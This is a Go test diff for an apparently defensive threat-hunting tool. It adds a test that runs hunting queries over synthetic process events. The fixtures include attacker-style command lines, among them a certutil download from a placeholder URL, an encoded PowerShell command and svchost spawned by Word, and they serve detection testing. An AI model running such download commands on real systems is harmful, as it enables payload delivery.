@@ -4,9 +4,11 @@ import (
 	"fmt"
 	"math"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
+	"trawl/dsl"
 	"trawl/event"
 	"trawl/features"
 	"trawl/inventory"
@@ -190,6 +192,53 @@ func TestFeatureColumns(t *testing.T) {
 		r := tb.Rows[i+1]
 		if r[0] != c.Name || r[1] != string(c.Type) {
 			t.Errorf("column %d: table %v %v, features %s %s", i+1, r[0], r[1], c.Name, c.Type)
+		}
+	}
+}
+
+// TestFeatureHunts runs hunting-language queries that name feature columns against the store:
+// they read the events_features view.
+func TestFeatureHunts(t *testing.T) {
+	st, _ := openTemp(t)
+	evs := []event.Event{
+		{Time: at("2024-03-04T02:00:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "svchost.exe", ParentName: "winword.exe", CommandLine: "svchost.exe -k x"},
+		{Time: at("2024-03-04T12:00:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "svchost.exe", ParentName: "services.exe", CommandLine: "svchost.exe -k x"},
+		{Time: at("2024-03-04T02:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "certutil.exe", ParentName: "cmd.exe", CommandLine: "certutil -urlcache -f http://x/y"},
+		{Time: at("2024-03-04T12:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "certutil.exe", ParentName: "cmd.exe", CommandLine: "certutil -urlcache -f http://x/y"},
+		{Time: at("2024-03-04T12:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "powershell.exe", CommandLine: "powershell -enc " + helloB64},
+	}
+	if err := st.InsertEvents(t.Context(), "hunt", evs); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := st.UpdateFeatures(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct{ query, want string }{
+		{`process | where unexpected_parent | fields line, parent_name`, "1 winword.exe"},
+		{`process | where lolbas and off_hours | fields line, process_name`, "3 certutil.exe"},
+		{`process | where cmd_entropy > 3 and not encoded_ps | sort line | fields line`, "1; 2; 3; 4"},
+		{`process | where encoded_ps | fields decoded_command`, `Write-Output "hello trawl"`},
+		{`process | stats count() as n by lolbas | sort lolbas | fields lolbas, n`, "false 3; true 2"},
+		{`sequence by host within 1h [process where unexpected_parent] then [process where lolbas] | fields host`, "ws1"},
+	} {
+		c, err := dsl.Build(tc.query, dsl.EventCatalogue())
+		if err != nil {
+			t.Fatalf("%s: %s", tc.query, dsl.FormatError(tc.query, err))
+		}
+		tb, err := st.Query(t.Context(), c.SQL, c.Args...)
+		if err != nil {
+			t.Fatalf("%s: %v\n%s", tc.query, err, c.SQL)
+		}
+		var rows []string
+		for _, r := range tb.Rows {
+			var f []string
+			for _, v := range r {
+				f = append(f, fmt.Sprint(v))
+			}
+			rows = append(rows, strings.Join(f, " "))
+		}
+		if got := strings.Join(rows, "; "); got != tc.want {
+			t.Errorf("%s:\n got %s\nwant %s", tc.query, got, tc.want)
 		}
 	}
 }
